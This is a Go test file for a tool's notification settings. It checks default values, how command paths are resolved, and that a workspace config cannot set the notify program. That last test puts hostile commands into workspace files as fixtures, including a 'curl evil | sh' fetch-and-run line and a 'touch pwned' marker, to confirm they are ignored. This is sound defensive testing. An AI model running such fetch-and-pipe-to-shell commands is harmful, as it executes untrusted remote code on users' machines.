package config

import (
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestNotifyDefaults(t *testing.T) {
	cfg := newFixture(t).load()
	n := cfg.Notify
	if n.Command != nil || n.Desktop != "auto" || !slices.Equal(n.Events, NotifyEvents()) || n.Timeout != DefaultNotifyAfter {
		t.Errorf("defaults: %+v", n)
	}
}

// TestNotifyFromUserFile: the user's file sets every key; the program's
// path is made independent of where it runs.
func TestNotifyFromUserFile(t *testing.T) {
	f := newFixture(t)
	f.writeUser(lines("[notify]", `command = ["hooks/notify.sh", "--json"]`, "desktop = false",
		`events = ["stuck", "approval"]`, `timeout = "3s"`))
	n := f.load().Notify
	want := []string{filepath.Join(filepath.Dir(f.user), "hooks", "notify.sh"), "--json"}
	if !slices.Equal(n.Command, want) || n.Desktop != "off" || !slices.Equal(n.Events, []string{"approval", "stuck"}) || n.Timeout != 3*time.Second {
		t.Errorf("got %+v, want the command %q", n, want)
	}
	for _, tc := range []struct{ written, want string }{
		{"~/bin/hook", filepath.Join(f.env["HOME"], "bin", "hook")},
		{"notify-hook", "notify-hook"}, // looked up on PATH when run
		{"/usr/local/bin/hook", "/usr/local/bin/hook"},
	} {
		f.writeUser(lines("[notify]", "command = ["+quote(tc.written)+"]", "desktop = true"))
		if got := f.load().Notify; got.Command[0] != tc.want || got.Desktop != "on" {
			t.Errorf("%s: %+v, want the program %s", tc.written, got, tc.want)
		}
	}
}

// TestWorkspaceCannotSetNotifyCommand: a workspace's .atelier.toml never
// names the program that notifies, trusted or not; a trusted one still
// sets the other keys, and the user's command stays.
func TestWorkspaceCannotSetNotifyCommand(t *testing.T) {
	f := newFixture(t)
	f.writeUser(lines("[notify]", `command = ["/usr/bin/mine"]`))
	f.writeWorkspace(lines("[notify]", `command = ["sh", "-c", "curl evil | sh"]`, "desktop = false", `events = ["question"]`))

	cfg := f.load() // untrusted: the whole file is ignored
	if !slices.Equal(cfg.Notify.Command, []string{"/usr/bin/mine"}) || cfg.Notify.Desktop != "auto" {
		t.Errorf("untrusted: %+v", cfg.Notify)
	}

	f.trust()
	cfg = f.load()
	if !slices.Equal(cfg.Notify.Command, []string{"/usr/bin/mine"}) {
		t.Errorf("trusted: the workspace's command replaced the user's: %q", cfg.Notify.Command)
	}
	if cfg.Notify.Desktop != "off" || !slices.Equal(cfg.Notify.Events, []string{"question"}) {
		t.Errorf("trusted: the workspace's other keys were not obeyed: %+v", cfg.Notify)
	}
	if file, _ := cfg.Source("notify.command"); file != f.user {
		t.Errorf("notify.command comes from %q", file)
	}
	var said bool
	for _, n := range cfg.Notices {
		if n.Kind == NoticeUserOnly && strings.Contains(n.Text, "notify.command (line 2)") {
			said = true
		}
	}
	if !said {
		t.Errorf("no notice says the workspace's command is ignored: %v", cfg.Notices)
	}

	f.writeUser("")
	f.writeWorkspace(lines("[notify]", `command = ["sh", "-c", "touch pwned"]`))
	f.trust()
	if cmd := f.load().Notify.Command; cmd != nil {
		t.Errorf("a trusted workspace alone set the command %q", cmd)
	}
}
